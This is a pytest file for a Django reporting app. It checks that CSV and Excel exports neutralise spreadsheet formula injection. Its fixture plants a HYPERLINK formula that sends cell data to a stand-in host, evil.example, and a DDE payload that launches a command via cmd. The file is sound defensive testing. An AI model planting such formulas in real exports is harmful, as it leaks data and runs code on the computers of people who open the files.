"""Exports open in a spreadsheet: no user text becomes a live formula there (issue 17, item
3). Every export is here: sessions, activities, expenses and payments (CSV and Excel), the
budget (Excel) and the figures CSV of the auditor bundle."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reporting.services import submit_report
from reporting.tests.factories import write_report
from tests.conftest import fast_pdf

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A2,"Klicka")'


@pytest.fixture
def hostile(world):
    a = world["a"]
    a["session"].note = LINK
    a["session"].save()
    a["activity"].description = "=1+1"
    a["activity"].save()
    a["budget_line"].text = "@SUM(1+1)"
    a["budget_line"].save()
    a["venue"].name = "+cmd|' /C calc'!A0"
    a["venue"].save()
    return world


def csv_cells(response):
    return [
        cell
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        for cell in row
    ]


def xlsx_cells(response):
    ws = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize(
    "url_name, texts",
    [
        ("visits:session_export", [LINK, "+cmd|' /C calc'!A0"]),
        ("visits:activity_export", ["=1+1", "+cmd|' /C calc'!A0"]),
    ],
)
def test_session_and_activity_exports_neutralise_formulas(hostile, staff_client, url_name, texts):
    agreement = hostile["a"]["agreement"]
    cells = csv_cells(staff_client.get(reverse(url_name, args=[agreement.pk, "csv"])))
    for text in texts:
        assert "'" + text in cells and text not in cells
    cells = xlsx_cells(staff_client.get(reverse(url_name, args=[agreement.pk, "xlsx"])))
    assert not [c for c in cells if c.data_type == "f"]
    for text in texts:
        assert "'" + text in [c.value for c in cells if c.data_type == "s"]


def test_the_budget_workbook_neutralises_a_budget_line_text(hostile, coordinator_client):
    agreement = hostile["a"]["agreement"]
    cells = xlsx_cells(coordinator_client.get(reverse("finance:budget_xlsx", args=[agreement.pk])))
    assert not [c for c in cells if c.data_type == "f"]
    assert "'@SUM(1+1)" in [c.value for c in cells if c.data_type == "s"]


def test_the_bundles_figures_csv_neutralises_user_text(hostile, staff_user, coordinator_client):
    a = hostile["a"]
    final = a["agreement"].reports.get(deadline__kind="final")
    write_report(final, "A summary")
    with fast_pdf():
        submit_report(report=final, user=staff_user)  # frozen with the hostile texts
    response = coordinator_client.get(reverse("reporting:audit_bundle", args=[a["agreement"].pk]))
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as bundle:
        texts = [
            bundle.read(n).decode("utf-8-sig") for n in bundle.namelist() if n.endswith(".csv")
        ]
    cells = [c for text in texts for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'@SUM(1+1)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_expense_and_payment_exports_neutralise_formulas(hostile, staff_client):
    a = hostile["a"]
    a["expense"].description = LINK
    a["expense"].save()
    a["payment"].note = "-2+3"
    a["payment"].save()
    agreement = a["agreement"]
    for url_name, text in (("finance:expense_export", LINK), ("finance:payment_export", "-2+3")):
        cells = csv_cells(staff_client.get(reverse(url_name, args=[agreement.pk, "csv"])))
        assert "'" + text in cells and text not in cells
        cells = xlsx_cells(staff_client.get(reverse(url_name, args=[agreement.pk, "xlsx"])))
        assert not [c for c in cells if c.data_type == "f"]
        assert "'" + text in [c.value for c in cells if c.data_type == "s"]
